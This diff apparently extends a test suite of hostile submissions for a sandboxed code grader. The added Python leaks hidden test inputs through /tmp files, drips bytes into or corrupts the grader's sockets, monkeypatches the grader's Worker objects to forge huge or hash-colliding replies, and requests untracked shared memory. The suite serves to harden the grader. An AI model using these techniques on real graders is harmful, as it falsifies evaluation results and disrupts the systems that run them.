@@ -2,13 +2,46 @@
 
 from __future__ import annotations
 
-from .submission import HONEST, Attack, returning
+from .submission import HONEST, RIGHT, Attack, returning
 
 SEEN = """
 def kernel(x, z, degree):
     with open("/tmp/seen", "a") as file:
         file.write(f"seen: {x, z, degree}\\n")
     return float(sum((x * z) ** i for i in range(degree + 1)))
+"""
+
+
+# In the second run of a claim, the hidden one, the witness is what the hidden calls of another piece wrote down.
+WITNESS = RIGHT["not-a-kernel"].replace(
+    "    return",
+    "    import os\n    if os.path.exists('/tmp/second'):\n        return open('/tmp/told').read()[-250:]\n"
+    "    open('/tmp/second', 'w').close()\n    return",
+)
+TOLD = RIGHT["kernel"].replace("    return", "    open('/tmp/told', 'a').write(f'told:{x!r} ')\n    return")
+# The visible inputs of this answer are eight.
+SHAPED = RIGHT["kernel"].replace(
+    "    return",
+    "    import os\n    with open('/tmp/calls', 'a') as file:\n        file.write('x')\n"
+    "    if os.path.getsize('/tmp/calls') > 8:\n        return np.zeros((0, int(abs(x) * 10**15)))\n    return",
+)
+LINES = """
+import json, os, stat, struct, threading, time
+def lines():
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            if int(name) > 2 and stat.S_ISSOCK(os.fstat(int(name)).st_mode):
+                yield int(name)
+        except OSError:
+            pass
+"""
+FORGE = """
+import gc
+def forge(reply):
+    for thing in gc.get_objects():
+        if type(thing).__name__ == "Worker":
+            original = thing._answer
+            thing._answer = lambda name, *args: original(name, *args) if name == "kernel" else reply
 """
 
 
@@ -169,5 +202,85 @@ for _ in range(4):
         "shell",
         "runs shell commands and other languages",
         "!echo taken > @CANARY@\n!nohup sh -c 'sleep 1; echo taken > @CANARY@'",
+    ),
+    Attack(
+        "witness-tells",
+        "returns the hidden inputs of one answer as the result of another, for the feedback page",
+        answers={"kernel": TOLD, "not-a-kernel": WITNESS},
+    ),
+    Attack(
+        "shape-tells",
+        "returns an empty array whose shape has the digits of a hidden input",
+        answers={"kernel": SHAPED},
+        earns=0,
+    ),
+    Attack(
+        "drip",
+        "announces a long reply and sends a byte of it now and then, for a month",
+        LINES
+        + """
+def drip(line):
+    os.write(line, struct.pack(">I", 30_000_000))
+    while True:
+        os.write(line, b" ")
+        time.sleep(0.2)
+for line in list(lines()):
+    threading.Thread(target=drip, args=(line,), daemon=True).start()
+time.sleep(0.5)
+""",
+        hurts_itself=True,
+    ),
+    Attack(
+        "kill-the-kept",
+        "ends, from one answer, the copy of its process that another answer's hidden inputs are tried on",
+        answers={
+            "dual": LINES
+            + """
+def gram_matrix(*args):
+    for line in list(lines()):
+        os.write(line, b"\\xff" * 9)
+dual_weights = predict = gram_matrix
+"""
+        },
+    ),
+    Attack(
+        "a-million-parts",
+        "forges a reply that takes a hundred times its length in the grader's memory",
+        FORGE + "forge({'value': 0.0, 'printed': [[]] * 2_000_000, 'changed': [0] * 100_000})",
+    ),
+    Attack(
+        "colliding-keys",
+        "forges a dict whose keys all collide, which takes the grader minutes to build",
+        FORGE + "forge({'value': {'dict': [[{'int': hex(k * (2**61 - 1))}, 0] for k in range(30_000)]}})",
+    ),
+    Attack(
+        "large-pictures",
+        "forges a picture of 25 MB as the output of every cell",
+        """
+import gc
+for thing in gc.get_objects():
+    if type(thing).__name__ == "Worker":
+        def run(source, seconds, worker=thing):
+            worker.shell.run_cell(source)
+            picture = {"output_type": "display_data", "data": {"image/png": "A" * 25_000_000}}
+            worker.channel.send({"outputs": [picture]})
+        thing.run = run
+""",
+        ending="too much output",
+    ),
+    Attack(
+        "uncounted-memory",
+        "asks for memory that belongs to no process, and for a disk of its own",
+        """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+got = [libc.shmget(0, 100_000_000, 0o1600) >= 0, libc.unshare(0x10000000) == 0]
+try:
+    os.ftruncate(os.memfd_create("hoard"), 60_000_000)
+    got.append(True)
+except OSError:
+    got.append(False)
+print("taken" if any(got) else "refused")
+""",
     ),
 ]
